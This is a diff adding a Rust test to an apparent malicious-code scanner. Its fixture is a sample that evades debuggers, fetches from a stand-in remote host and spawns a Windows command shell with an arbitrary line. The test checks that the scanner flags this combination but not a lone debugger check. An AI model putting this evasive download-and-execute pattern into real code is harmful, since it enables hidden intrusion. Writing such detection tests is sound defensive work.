@@ -912,6 +912,35 @@ mod tests {
     }
 
     #[test]
+    fn looking_for_a_debugger_counts_only_beside_a_payload() {
+        let watched = r#"
+            extern "system" { fn IsDebuggerPresent() -> i32; }
+            fn watched() -> bool { unsafe { IsDebuggerPresent() != 0 } }
+        "#;
+        let found = findings(&format!(
+            r#"{watched}
+            pub fn init(line: &str) {{
+                if watched() {{ return; }}
+                let body = ureq::get("https://cdn.updates.invalid/x").call().unwrap();
+                let _ = body;
+                let _ = std::process::Command::new("cmd").args(["/C", line]).spawn();
+            }}"#
+        ));
+        assert!(
+            found.iter().any(
+                |(rule, severity)| rule == super::super::rules::OBFUSCATED_PAYLOAD
+                    && *severity == Verdict::Hold
+            ),
+            "{found:?}"
+        );
+        let found = findings(&format!(
+            r#"{watched}
+            pub fn report() -> &'static str {{ if watched() {{ "debugger" }} else {{ "none" }} }}"#
+        ));
+        assert!(found.is_empty(), "{found:?}");
+    }
+
+    #[test]
     fn a_constructor_of_one_type_is_not_every_new() {
         // `Command::new` is not `Fetcher::new`, whose value came from the network.
         let source = r#"
